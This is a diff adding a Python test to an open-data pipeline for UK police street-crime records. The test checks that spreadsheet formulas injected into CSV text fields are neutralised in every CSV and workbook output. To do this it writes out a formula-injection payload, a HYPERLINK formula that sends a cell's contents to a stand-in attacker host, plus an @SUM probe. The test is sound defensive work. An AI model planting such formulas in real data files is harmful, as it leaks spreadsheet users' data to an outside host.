@@ -240,3 +240,37 @@ def test_lsoa_population_file_adds_lsoa_rates_and_deciles(west_yorkshire, tmp_pa
     assert _one(dec, breakdown_value="8")["value"] == pytest.approx(24 / 1200 * 1000)
     lsoa_choice = next(c for c in res.metadata["population_years"] if c["level"] == "lsoa")
     assert lsoa_choice["how"] == "exact" and len(lsoa_choice["areas_without_estimate"]) == len(lsoa) - 5
+
+
+def test_formula_text_in_street_files_is_neutralised_in_every_output(west_yorkshire, tmp_path):
+    """Attack: a street file carrying spreadsheet formulas in text columns; no output cell may run one."""
+    import csv as _csv
+
+    from openpyxl import load_workbook
+
+    f = west_yorkshire / "police" / "street" / "2021-04" / "2021-04-west-yorkshire-street.csv"
+    evil = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'
+    rows = f.read_text(encoding="utf-8").splitlines()
+    rows.append(
+        f"x1,2021-04,West Yorkshire Police,West Yorkshire Police,-1.5,53.8,On or near Park Lane,E01011264,"
+        f'Leeds 011A,Robbery,"{evil.replace(chr(34), chr(34) * 2)}",'
+    )
+    rows.append(
+        "x2,2021-04,West Yorkshire Police,West Yorkshire Police,-1.5,53.8,On or near Park Lane,E01011264,"
+        "Leeds 011A,@SUM(1+1),Unable to prosecute suspect,"
+    )
+    f.write_text("\n".join(rows) + "\n", encoding="utf-8")
+    res = run_opendata(west_yorkshire, "west-yorkshire", [2021], tmp_path / "o", build_report=False)
+    # the formula reached the indicator table as data ...
+    assert (res.indicators["breakdown_value"] == evil).any()
+    # ... but every CSV and workbook cell holding it starts with a quote
+    for name in ("indicators.csv", "rejects.csv"):
+        with (tmp_path / "o" / name).open(encoding="utf-8", newline="") as fh:
+            cells = [c for row in _csv.reader(fh) for c in row]
+        assert not [c for c in cells if c.lstrip().startswith(("=", "@", "+"))], name
+        assert any(c.startswith("'=HYPERLINK") or c.startswith("'@SUM") for c in cells), name
+    wb = load_workbook(res.files["workbook"])
+    formulas = [c.coordinate for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
+    assert formulas == []
+    texts = [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
+    assert f"'{evil}" in texts and "'@SUM(1+1)" in texts
